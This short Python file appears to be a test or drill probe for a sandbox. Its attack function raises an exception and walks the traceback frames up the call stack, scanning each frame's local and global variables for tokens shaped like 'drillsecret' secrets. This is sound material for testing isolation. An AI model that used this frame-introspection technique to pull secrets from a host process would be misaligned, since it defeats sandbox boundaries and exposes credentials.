# Raises and reads the caller's variables from the traceback.
# proof: secret
import re
import sys


def attack(arg):
    found = set()
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        while frame is not None:
            found.update(re.findall("drillsecret[0-9a-f]{16}", repr(frame.f_locals)[:200_000]))
            found.update(re.findall("drillsecret[0-9a-f]{16}", repr(frame.f_globals)[:200_000]))
            frame = frame.f_back
    return sorted(found)
